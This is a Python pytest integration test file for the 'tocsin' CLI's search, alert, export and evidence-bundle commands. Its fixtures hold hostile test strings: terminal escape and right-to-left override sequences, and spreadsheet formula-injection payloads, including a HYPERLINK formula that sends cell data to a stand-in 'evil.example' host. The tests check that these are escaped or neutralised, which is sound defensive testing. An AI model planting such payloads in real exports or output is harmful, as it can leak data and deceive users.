"""``tocsin search / alerts / export`` against the real local search server."""

from __future__ import annotations

import asyncio
import csv
import getpass
import hashlib
import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from alerts.store import TEMPLATE_FILE as ALERTS_TEMPLATE
from processors.archive import TEMPLATE_FILE as ITEMS_TEMPLATE
from tocsin.documents import to_document
from tocsin.evidence import EvidenceStore
from tocsin.schema import Alert, AlertArea, CategoryHit, EnrichedItem, SourceRef
from tocsin.search import bulk_index, install_index, search_client
from tocsin.settings import SearchSettings
from tocsin_embedded.ports import free_port
from tocsin_launch.cli import main

pytestmark = pytest.mark.peers

Env = dict[str, str]
Capture = pytest.CaptureFixture[str]
ITEMS = "cliarchive-items"
ALERTS = "cliarchive-alerts"
EVIDENCE = "cliarchive-evidence"
CUSTODY = "cliarchive-custody"
T0 = datetime(2026, 10, 1, tzinfo=UTC)
HOSTILE_TITLE = "\x1b[31mRED\x1b[0m \x1b]0;pwned\x07 \u202eevil\u202c \x9b2J\rover\x08 written"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]


def make_item(n: int) -> EnrichedItem:
    """Items with many equal event times (so the id must break ties) and varied fields."""
    lang = ("en", "fr", "ar")[n % 3]
    country = ("SD", "KE", None)[n % 5 % 3]
    score = (n % 10) / 10
    title = f"report {n} " + ("massacre near the river" if n % 7 == 0 else "market prices")
    if n < len(FORMULAS):
        title = FORMULAS[n]
    if n == 100:
        title = HOSTILE_TITLE
    return EnrichedItem(
        id=f"item-{n:05d}", source=SourceRef(type="rss" if n % 2 else "telegram", name=f"src-{n % 4}"),
        url=f"https://news.example/{n}", title=title, text=f"text of item {n}, line one\nline two",
        published=T0 + timedelta(minutes=n // 4), collected=T0 + timedelta(days=30),
        raw_sha256=f"{n:064x}", content_sha256=f"{n + 1:064x}", lang=lang, lang_confidence=0.9,
        categories={"hate_speech": CategoryHit(score=score, classifier="test")} if n % 2 else {},
        country=country, admin1="SD.55" if country == "SD" else None,
        location={"lat": 13.6 + n % 3, "lon": 25.3} if country == "SD" else
        ({"lat": -1.3, "lon": 36.8} if country == "KE" else None),
        processed=T0 + timedelta(days=30))


ITEM_COUNT = 2500
DOCS = {item.id: to_document(item) for item in map(make_item, range(ITEM_COUNT))}


def make_alerts() -> list[Alert]:
    base: dict[str, Any] = {
        "rule_type": "frequency", "window_start": T0, "window_end": T0 + timedelta(hours=6), "count": 5,
        "threshold": 4, "sample_item_ids": ["item-00001"], "first_seen": T0, "last_seen": T0}
    return [
        Alert(id="a-sd", rule="violence-by-country", title="Violence in Sudan", severity="severe",
              group={"country": "SD"}, group_key="country=SD", updated_at=T0 + timedelta(hours=3), **base),
        Alert(id="a-ke", rule="violence-by-country", title="Violence in Kenya", severity="warning",
              group={"country": "KE"}, group_key="country=KE", status="resolved", event="resolved",
              updated_at=T0 + timedelta(hours=2), **base),
        Alert(id="a-hate", rule="hate-surge", title=HOSTILE_TITLE, severity="extreme", group={"lang": "en"},
              group_key="lang=en", area=AlertArea(description="El Fasher", country="SD"),
              updated_at=T0 + timedelta(hours=1), **base),
    ]


def evidence_settings(search: SearchSettings) -> SearchSettings:
    return search.model_copy(update={"items_index": ITEMS, "alerts_index": ALERTS, "evidence_index": EVIDENCE,
                                     "custody_index": CUSTODY})


@pytest.fixture(scope="module")
def archive(search_settings: SearchSettings) -> SearchSettings:
    async def seed() -> None:
        es = search_client(search_settings)
        try:
            await install_index(es, ITEMS, ITEMS_TEMPLATE)
            await install_index(es, ALERTS, ALERTS_TEMPLATE)
            docs = list(DOCS.items())
            for start in range(0, len(docs), 1000):
                assert not await bulk_index(es, ITEMS, docs[start:start + 1000], refresh=True)
            alerts = [(a.id, a.model_dump(mode="json")) for a in make_alerts()]
            assert not await bulk_index(es, ALERTS, alerts, refresh=True)
            frozen = await EvidenceStore(es, evidence_settings(search_settings)).freeze(make_alerts()[0])
            assert [item.item_id for item in frozen.frozen] == ["item-00001"]
        finally:
            await es.close()

    asyncio.run(seed())
    return search_settings


@pytest.fixture
def env(archive: SearchSettings, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, str]]:
    values = {"TOCSIN_SEARCH__URL": archive.url, "TOCSIN_SEARCH__NODE_CLASS": archive.node_class,
              "TOCSIN_SEARCH__ITEMS_INDEX": ITEMS, "TOCSIN_SEARCH__ALERTS_INDEX": ALERTS,
              "TOCSIN_SEARCH__EVIDENCE_INDEX": EVIDENCE, "TOCSIN_SEARCH__CUSTODY_INDEX": CUSTODY,
              "COLUMNS": "200"}
    for key, value in values.items():
        monkeypatch.setenv(key, value)
    monkeypatch.delenv("TOCSIN_CONFIG", raising=False)
    yield values


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    try:
        code = main(list(argv))
    except SystemExit as exc:  # argparse's own errors
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def search_ids(capsys: pytest.CaptureFixture[str], *argv: str) -> list[str]:
    code, out, err = run(capsys, "search", "--json", "--size", "1000", *argv)
    assert code == 0, err
    return [json.loads(line)["id"] for line in out.splitlines()]


def expected(predicate: Any) -> set[str]:
    return {doc_id for doc_id, doc in DOCS.items() if predicate(doc)}


# ------------------------------------------------------------------- search


def test_search_filters_by_country_language_and_source_type(env: Env, capsys: Capture) -> None:
    ids = search_ids(capsys, "--country", "sd", "--lang", "en", "--source-type", "rss")
    want = expected(lambda d: d["country"] == "SD" and d["lang"] == "en" and d["source"]["type"] == "rss")
    assert set(ids) == want and len(ids) == len(want)


def test_search_category_min_score_and_time_range(env: Env, capsys: Capture) -> None:
    start, end = T0 + timedelta(hours=2), T0 + timedelta(hours=5)
    ids = search_ids(capsys, "--category", "hate_speech", "--min-score", "0.7",
                     "--from", start.isoformat(), "--to", end.isoformat())
    want = expected(lambda d: d["scores"].get("hate_speech", -1) >= 0.7
                    and start <= datetime.fromisoformat(d["event_time"]) < end)
    assert want and set(ids) == want


def test_search_words_and_newest_first(env: Env, capsys: Capture) -> None:
    ids = search_ids(capsys, "massacre", "--sort", "newest", "--country", "KE")
    want = expected(lambda d: "massacre" in d["title"] and d["country"] == "KE")
    assert set(ids) == want
    times = [DOCS[i]["event_time"] for i in ids]
    assert times == sorted(times, reverse=True)


def test_search_near_a_point(env: Env, capsys: Capture) -> None:
    ids = search_ids(capsys, "--near=-1.3,36.8,50", "--size", "1000")
    assert set(ids) <= expected(lambda d: d["country"] == "KE")
    assert len(ids) == min(1000, len(expected(lambda d: d["country"] == "KE")))


def test_search_table_shows_hostile_text_as_visible_escapes(env: Env, capsys: Capture) -> None:
    code, out, _ = run(capsys, "search", "written", "--size", "5")
    assert code == 0
    for raw in ("\x1b", "\x9b", "\x07", "\x08", "\r", "\u202e"):
        assert raw not in out, repr(raw)
    assert "\\x1b[31mRED" in out and "\\u202eevil" in out
    assert "of" in out.splitlines()[-1] and "matching items" in out


# ------------------------------------------------------------------- alerts


def test_alerts_are_listed_newest_first_and_filtered(env: Env, capsys: Capture) -> None:
    code, out, err = run(capsys, "alerts", "--json")
    assert code == 0, err
    assert [json.loads(line)["id"] for line in out.splitlines()] == ["a-sd", "a-ke", "a-hate"]

    def ids(*argv: str) -> list[str]:
        code, out, err = run(capsys, "alerts", "--json", *argv)
        assert code == 0, err
        return [json.loads(line)["id"] for line in out.splitlines()]

    assert ids("--status", "resolved") == ["a-ke"]
    assert ids("--severity", "severe,extreme") == ["a-sd", "a-hate"]
    assert ids("--country", "SD") == ["a-sd", "a-hate"]  # by group, and by area
    assert ids("--rule", "hate-surge") == ["a-hate"]


def test_alerts_table_escapes_hostile_titles(env: Env, capsys: Capture) -> None:
    code, out, _ = run(capsys, "alerts", "--severity", "extreme")
    assert code == 0
    assert "\x1b" not in out and "\u202e" not in out and "\\x1b[31mRED" in out
    assert "El Fasher" in out and "1 alerts" in out


# ------------------------------------------------------------------- export


def test_ndjson_export_is_the_whole_index_over_many_pages(env: Env, capsys: Capture, tmp_path: Path) -> None:
    target = tmp_path / "items.ndjson"
    code, _, err = run(capsys, "export", "-o", str(target), "--page-size", "500", "--no-progress")
    assert code == 0, err
    assert f"exported {ITEM_COUNT} items" in err
    lines = target.read_text(encoding="utf-8").splitlines()
    docs = [json.loads(line) for line in lines]
    ids = [doc["id"] for doc in docs]
    assert len(ids) == ITEM_COUNT == len(set(ids))  # no duplicates, no gaps
    assert {doc["id"]: doc for doc in docs} == DOCS  # exactly what is archived
    order = [(doc["event_time"], doc["id"]) for doc in docs]
    assert order == sorted(order)
    assert not (tmp_path / "items.ndjson.part").exists()


def test_csv_export_with_filters_and_formula_cells_neutralised(env: Env, capsys: Capture,
                                                               tmp_path: Path) -> None:
    target = tmp_path / "sd.csv"
    code, _, err = run(capsys, "export", "--country", "SD", "-o", str(target), "--page-size", "500")
    assert code == 0, err
    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    want = expected(lambda d: d["country"] == "SD")
    assert len(want) > 500
    assert [r["id"] for r in rows] and {r["id"] for r in rows} == want and len(rows) == len(want)
    titles = {r["id"]: r["title"] for r in rows}
    for n, formula in enumerate(FORMULAS):
        if f"item-{n:05d}" in titles:
            assert titles[f"item-{n:05d}"] == "'" + formula
    row = next(r for r in rows if r["id"] == "item-00000")
    assert row["lat"] == "13.6" and row["text"] == "text of item 0, line one\nline two"


def test_full_csv_export_has_every_item_once(env: Env, capsys: Capture, tmp_path: Path) -> None:
    target = tmp_path / "all.csv"
    code, _, err = run(capsys, "export", "--format", "csv", "-o", str(target), "--page-size", "500")
    assert code == 0, err
    with target.open(encoding="utf-8", newline="") as handle:
        ids = [row["id"] for row in csv.DictReader(handle)]
    assert len(ids) == ITEM_COUNT and set(ids) == set(DOCS)
    formula_rows = [i for i in ids if i in {f"item-{n:05d}" for n in range(len(FORMULAS))}]
    assert len(formula_rows) == len(FORMULAS)


def test_export_to_standard_output(env: Env, capsys: Capture) -> None:
    code, out, err = run(capsys, "export", "--format", "ndjson", "-o", "-", "--lang", "ar",
                         "--country", "KE", "--no-progress")
    assert code == 0, err
    ids = {json.loads(line)["id"] for line in out.splitlines()}
    assert ids == expected(lambda d: d["lang"] == "ar" and d["country"] == "KE")


# ----------------------------------------------------------------- evidence


def test_evidence_bundle_is_exported_logged_and_verifies(env: Env, capsys: Capture, tmp_path: Path) -> None:
    bundle = tmp_path / "bundle.zip"
    code, _, err = run(capsys, "export", "--evidence", "a-sd", "-o", str(bundle))
    assert code == 0, err
    assert "logged as exported by" in err
    code, out, err = run(capsys, "evidence", "verify", str(bundle))
    assert code == 0, err
    assert "OK: alert a-sd, 1 item(s) verified" in out

    async def custody() -> list[Any]:
        settings = evidence_settings(SearchSettings(url=env["TOCSIN_SEARCH__URL"],
                                                    node_class=env["TOCSIN_SEARCH__NODE_CLASS"]))
        es = search_client(settings)
        try:
            return await EvidenceStore(es, settings).custody("a-sd")
        finally:
            await es.close()

    last = asyncio.run(custody())[-1]
    assert last.action == "exported" and last.actor == getpass.getuser()
    assert hashlib.sha256(bundle.read_bytes()).hexdigest() in last.detail


def test_a_tampered_bundle_fails_verification(env: Env, capsys: Capture, tmp_path: Path) -> None:
    bundle, tampered = tmp_path / "bundle.zip", tmp_path / "tampered.zip"
    assert run(capsys, "export", "--evidence", "a-sd", "-o", str(bundle))[0] == 0
    with zipfile.ZipFile(bundle) as source, zipfile.ZipFile(tampered, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.startswith("items/"):
                data = data.replace(b"line one", b"line 1!!")
            target.writestr(info, data)
    code, out, _ = run(capsys, "evidence", "verify", str(tampered))
    assert code == 1 and "FAILED" in out and "does not match" in out


def test_a_consistent_tamper_fails_verification(env: Env, capsys: Capture, tmp_path: Path) -> None:
    """Issue 14: item, manifest and SHA256SUMS edited together used to verify OK."""
    from tests.tocsin.test_evidence_integrity import consistent_tamper

    bundle = tmp_path / "bundle.zip"
    assert run(capsys, "export", "--evidence", "a-sd", "-o", str(bundle))[0] == 0
    item_file = next(n for n in zipfile.ZipFile(bundle).namelist() if n.startswith("items/"))
    tampered = tmp_path / "tampered.zip"
    tampered.write_bytes(consistent_tamper(bundle.read_bytes(), item_id="item-00001", file=item_file))
    code, out, _ = run(capsys, "evidence", "verify", str(tampered))
    assert code == 1 and "custody log recorded when it was frozen" in out


def test_signed_bundles_verify_against_the_public_key_and_the_server(
        env: Env, capsys: Capture, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.tocsin.test_evidence_integrity import consistent_tamper

    code, out, _ = run(capsys, "evidence", "keygen", str(tmp_path / "tocsin"))
    assert code == 0 and (tmp_path / "tocsin.key").stat().st_mode & 0o777 == 0o600
    key_id = out.split()[1].rstrip(":")
    assert run(capsys, "evidence", "keygen", str(tmp_path / "tocsin"))[0] == 2  # never overwritten
    monkeypatch.setenv("TOCSIN_EVIDENCE__SIGNING_KEY_FILE", str(tmp_path / "tocsin.key"))
    bundle = tmp_path / "bundle.zip"
    assert run(capsys, "export", "--evidence", "a-sd", "-o", str(bundle))[0] == 0
    code, out, err = run(capsys, "evidence", "verify", str(bundle),
                         "--public-key", str(tmp_path / "tocsin.pub"), "--against-server")
    assert code == 0, out + err
    assert f"signed by trusted key {key_id}" in out and "matches the server's evidence" in out
    # Rewritten with its custody log re-chained: only the signature and the server can tell.
    item_file = next(n for n in zipfile.ZipFile(bundle).namelist() if n.startswith("items/"))
    forged = tmp_path / "forged.zip"
    forged.write_bytes(consistent_tamper(bundle.read_bytes(), item_id="item-00001", file=item_file,
                                         rechain=True))
    code, out, _ = run(capsys, "evidence", "verify", str(forged), "--against-server")
    assert code == 1
    assert "the signature does not match manifest.json" in out
    assert "is not the one frozen here" in out and "is not this server's entry 1" in out


@pytest.mark.parametrize("argv, code, message", [
    (["export", "--evidence", "no-such-alert", "-o", "x.zip"], 1, "no evidence has been frozen"),
    (["export", "--evidence", "a-sd", "--country", "SD", "-o", "x.zip"], 2, "takes no item filters"),
    (["export", "--evidence", "a-sd", "-o", "-"], 2, "an evidence bundle is a zip file"),
    (["evidence", "verify", "/nonexistent/bundle.zip"], 2, "no such file"),
])
def test_evidence_mistakes_are_clear(env: Env, capsys: Capture, tmp_path: Path,
                                     monkeypatch: pytest.MonkeyPatch, argv: list[str], code: int,
                                     message: str) -> None:
    monkeypatch.chdir(tmp_path)
    got, _, err = run(capsys, *argv)
    assert got == code and message in err
    assert not (tmp_path / "x.zip").exists()


# ------------------------------------------------------------- bad input


@pytest.mark.parametrize("argv, message", [
    (["search", "--from", "yesterday"], "argument --from: not a time: 'yesterday'"),
    (["search", "--to", "2026-02-30"], "not a time"),
    (["search", "--from", "2026-11-02", "--to", "2026-11-01"], "is not before the end"),
    (["search", "--min-score", "0.5"], "a minimum score needs a category"),
    (["search", "--category", "hate_speech", "--min-score", "high"], "not a number: 'high'"),
    (["search", "--country", "Sudan"], "not an ISO 3166 alpha-2 country code: 'SUDAN'"),
    (["search", "--size", "0"], "must be between 1 and 1000"),
    (["search", "--near", "0,0"], "not lat,lon,km"),
    (["alerts", "--severity", "critical"], "not a severity: 'critical'"),
    (["alerts", "--status", "closed"], "not an alert status"),
    (["export", "-o", "items.txt"], "say --format csv or --format ndjson"),
    (["export", "--format", "xml", "-o", "x"], "invalid choice: 'xml'"),
    (["export", "-o", "/nonexistent-dir/x.csv"], "no such directory"),
])
def test_bad_options_exit_2_with_a_clear_message(env: Env, capsys: Capture, argv: list[str],
                                                   message: str) -> None:
    code, out, err = run(capsys, *argv)
    assert code == 2
    assert message in err and "Traceback" not in err
    assert out == ""


def test_a_missing_index_is_reported_not_a_traceback(env: Env, capsys: Capture,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOCSIN_SEARCH__ITEMS_INDEX", "cliarchive-nothing-here")
    code, _, err = run(capsys, "search", "x")
    assert code == 1 and "does not exist" in err and "tocsin init" in err


def test_an_unreachable_server_is_reported(env: Env, capsys: Capture, monkeypatch: pytest.MonkeyPatch,
        tmp_path: Path) -> None:
    monkeypatch.setenv("TOCSIN_SEARCH__URL", f"http://127.0.0.1:{free_port()}")
    target = tmp_path / "x.ndjson"
    code, _, err = run(capsys, "export", "-o", str(target), "--no-progress")
    assert code == 1 and "cannot reach the search server" in err
    assert not target.exists() and not (tmp_path / "x.ndjson.part").exists()


def test_the_installed_command_exits_2_on_a_bad_date(env: Env) -> None:
    argv = [sys.executable, "-m", "tocsin_launch.cli", "export", "--from", "31/12/2026", "-o", "x.csv"]
    done = subprocess.run(argv, env={**os.environ, **env}, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert "argument --from: not a time: '31/12/2026'" in done.stderr


def test_csv_cells_parse_back_as_written() -> None:
    from tocsin.exporting import CsvWriter

    out = io.StringIO(newline="")
    writer = CsvWriter(out)
    writer.write({"id": "x", "title": 'a "quoted", comma\nnewline', "location": {"lat": -1.5, "lon": 2}})
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0]["title"] == 'a "quoted", comma\nnewline' and rows[0]["lat"] == "-1.5"


def test_tables_piped_to_a_program_keep_each_row_on_one_line(env: Env) -> None:
    """Not a terminal and no COLUMNS: whole titles and ids, one row a line (rich folded at 80)."""
    child_env = {k: v for k, v in os.environ.items() if k != "COLUMNS"}
    child_env.update({k: v for k, v in env.items() if k != "COLUMNS"})
    done = subprocess.run([sys.executable, "-m", "tocsin_launch.cli", "alerts", "--status", "open"],
                          capture_output=True, text=True, env=child_env, timeout=60)
    assert done.returncode == 0, done.stderr
    rows = [line for line in done.stdout.splitlines() if "a-sd" in line or "a-hate" in line]
    assert len(rows) == 2 and "Violence in Sudan" in rows[0]
    assert all(line.rstrip().endswith(("a-sd", "a-hate")) for line in rows)
    done = subprocess.run([sys.executable, "-m", "tocsin_launch.cli", "search", "massacre", "--country", "KE",
                           "--size", "3"], capture_output=True, text=True, env=child_env, timeout=60)
    assert done.returncode == 0, done.stderr
    rows = [line for line in done.stdout.splitlines() if "massacre near the river" in line]
    assert len(rows) == 3 and all(line.rstrip().split()[-1].startswith("item-") for line in rows)


def test_an_unknown_category_exits_2_naming_the_real_ones(env: Env, capsys: Capture, tmp_path: Path) -> None:
    for argv in (["search", "--category", "violence"],
                 ["export", "--category", "violence", "-o", str(tmp_path / "x.csv"), "--no-progress"]):
        code, out, err = run(capsys, *argv)
        assert code == 2 and out == ""
        assert "unknown category 'violence'" in err and "hate_speech" in err
    assert not (tmp_path / "x.csv").exists()
